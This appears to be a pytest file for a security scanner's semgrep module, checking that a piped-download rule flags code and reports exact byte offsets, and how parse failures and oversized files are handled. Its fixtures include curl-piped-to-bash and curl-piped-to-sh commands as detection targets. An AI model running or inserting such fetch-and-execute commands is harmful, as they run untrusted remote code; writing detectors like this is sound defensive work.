from dataclasses import replace
from pathlib import Path

import pytest

from scanner.analyze import semgrep
from scanner.analyze.semgrep import SOURCE_BYTES, follow
from scanner.analyze.worker import Followed, ProgramSubject
from scanner.attempt import Refusal
from scanner.model.artifact import Artifact, ArtifactKind
from scanner.model.coverage import CoverageStatus
from scanner.model.observation import PatternMatched
from scanner.model.program import Language, Program
from scanner.ruleset.locations import shipped
from tests.analyze.subjects import artifact_of

RULES = (shipped("rules"),)
PIPED = "require('child_process').execSync('curl -fsSL https://contoso.dev/x.sh | bash')"


def program_of(*modules: Artifact, language: Language = Language.JAVASCRIPT, rules: tuple[Path, ...] = RULES) -> ProgramSubject:
    return ProgramSubject(program=Program(language=language, root=(), modules=modules, entries=()), blobs=Path(), rules=rules)


def test_a_match_points_at_its_bytes_in_sources_and_in_units_of_bundles(tmp_path: Path) -> None:
    plain = f'const ü = "😀";\n{PIPED};\n'
    bundle = f"var a=1;function b(){{return 2}}{PIPED};" + "".join(f"function f{number}(){{return {number}}}" for number in range(30_000))
    clean = "console.log('curl https://contoso.dev/x.sh | bash')"
    modules = tuple(artifact_of(text, tmp_path, name=name) for name, text in (("a.js", plain), ("b.js", bundle), ("c.js", clean)))
    followed = follow(program_of(*modules))
    matches = [item for item in followed.observations if isinstance(item, PatternMatched)]
    assert [(match.engine, match.rule, match.place.subject) for match in matches] == [
        ("semgrep", "piped-download-javascript", "a.js"), ("semgrep", "piped-download-javascript", "b.js")]
    for match, text in zip(matches, (plain, bundle), strict=True):
        assert text.encode()[match.place.byte_offset:match.place.byte_offset + match.place.byte_length].decode() == PIPED
    assert followed.gaps == ()


def test_files_that_do_not_parse_or_are_too_large_are_gaps_that_hide_nothing(tmp_path: Path) -> None:
    call = 'import os\nos.system("curl https://contoso.dev/x.sh | sh")\n'
    broken = artifact_of(f"{call}def (:\n", tmp_path, kind=ArtifactKind.PYTHON, name="broken.py")
    large = artifact_of(call + "x = 1\n" * SOURCE_BYTES, tmp_path, kind=ArtifactKind.PYTHON, name="large.py")
    gaps = follow(program_of(broken, large, language=Language.PYTHON)).gaps
    assert [(gap.status, gap.reason, gap.hides) for gap in gaps] == [
        (CoverageStatus.SKIPPED, f"semgrep rules were not applied to large.py: larger than {SOURCE_BYTES} bytes or minified", frozenset()),
        (CoverageStatus.PARTIAL, "semgrep did not parse 1 pieces of broken.py to the end", frozenset()),
    ]


def test_no_process_is_started_without_rules_or_without_what_they_look_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(semgrep.subprocess, "Popen", None)
    module = artifact_of("console.log(1)", tmp_path)
    assert follow(program_of(module)) == Followed(observations=(), slices=(), bytes_examined=module.size_bytes)
    assert follow(program_of(module, rules=())) == Followed(observations=(), slices=(), bytes_examined=0)


def test_rules_that_semgrep_does_not_accept_are_a_refusal(tmp_path: Path) -> None:
    path = tmp_path / "detections" / "x" / "semgrep.yaml"
    path.parent.mkdir(parents=True)
    path.write_text("rules:\n  - id: x\n    languages: [javascript]\n    severity: INFO\n    message: m\n    pattern: '((('\n")
    with pytest.raises(Refusal, match="does not accept the rule x"):
        follow(program_of(artifact_of("f(1)", tmp_path), rules=(tmp_path,)))


def test_another_language_is_not_searched(tmp_path: Path) -> None:
    subject = program_of(artifact_of("x", tmp_path))
    assert follow(replace(subject, rules=())).observations == ()
